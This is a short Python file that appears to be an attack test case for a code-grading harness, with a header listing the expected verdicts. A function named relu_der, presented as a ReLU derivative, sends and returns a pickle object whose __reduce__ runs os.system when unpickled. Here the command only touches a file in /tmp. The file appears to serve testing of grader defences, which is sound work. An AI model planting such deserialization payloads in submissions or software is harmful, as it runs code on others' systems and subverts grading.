# /// attack
# tries = "Answer with an object that runs a command when it is unpickled."
# verdicts = ["runtime_error", "output_limit_exceeded"]
# graded = true
# ///
import pickle

class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/exploded",)

def relu_der(dA, cache):
    send(pickle.dumps(Bomb()))
    return Bomb()
